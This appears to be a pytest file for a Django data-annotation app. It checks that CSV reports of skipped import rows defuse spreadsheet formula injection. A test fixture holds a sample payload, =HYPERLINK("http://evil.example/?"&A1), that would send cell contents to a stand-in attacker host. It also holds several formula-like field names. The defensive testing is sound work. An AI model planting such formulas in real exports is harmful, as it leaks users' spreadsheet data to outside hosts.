"""The report of skipped rows, downloaded as CSV, quotes text a spreadsheet
would run as a formula (the raw row and the error quote the uploaded file),
as the CSV exports do; the JSONL report keeps the text as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from annotation.imports.jobs import import_job_skipped_report
from annotation.imports.upload import import_upload

pytestmark = pytest.mark.django_db

# A good line, then lines whose report cells a spreadsheet would run: a line
# that is not JSON (its raw text is the report's "raw") and unknown fields
# (named in the report's "field").
HOSTILE_JSONL = (
    b'{"prompt": "fine", "candidates": ["ok"]}\n'
    b'=HYPERLINK("http://evil.example/?"&A1)\n'
    b'{"prompt": "p", "candidates": ["x"], "@SUM(1+1)": 1}\n'
    b'{"prompt": "q", "candidates": ["y"], "-2+3": 1}\n'
)


def skipped_job(study, researcher):
    outcome = import_upload(
        study=study, upload=SimpleUploadedFile("f.jsonl", HOSTILE_JSONL), format=None, options={}, by=researcher,
        skip_invalid=True,
    )  # fmt: skip
    assert outcome.result.rows_skipped == 3
    return outcome.job


def test_the_csv_report_of_skipped_rows_quotes_formulas(client_for, researcher, study):
    job = skipped_job(study, researcher)
    response = client_for(researcher).get(reverse("import_job_skipped", args=[study.slug, job.pk]), {"as": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert [row["raw"][:10] for row in rows] == ["'=HYPERLIN", '{"prompt":', '{"prompt":']
    assert [row["field"] for row in rows] == ["", "'@SUM(1+1)", "'-2+3"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_a_skipped_raw_line_that_starts_like_a_formula_gets_a_leading_quote(researcher, study):
    job = skipped_job(study, researcher)
    job.skipped_rows = [{"line": 2, "field": "-x", "error": "=bad", "raw": "+raw"}]
    (row,) = csv.DictReader(io.StringIO(import_job_skipped_report(job=job, kind="csv")))
    assert row == {"line": "2", "field": "'-x", "error": "'=bad", "raw": "'+raw"}


def test_the_jsonl_report_keeps_the_text_as_it_was(researcher, study):
    job = skipped_job(study, researcher)
    job.skipped_rows = [{"line": 2, "field": "-x", "error": "=bad", "raw": "+raw"}]
    assert json.loads(import_job_skipped_report(job=job, kind="jsonl")) == {
        "line": 2,
        "field": "-x",
        "error": "=bad",
        "raw": "+raw",
    }
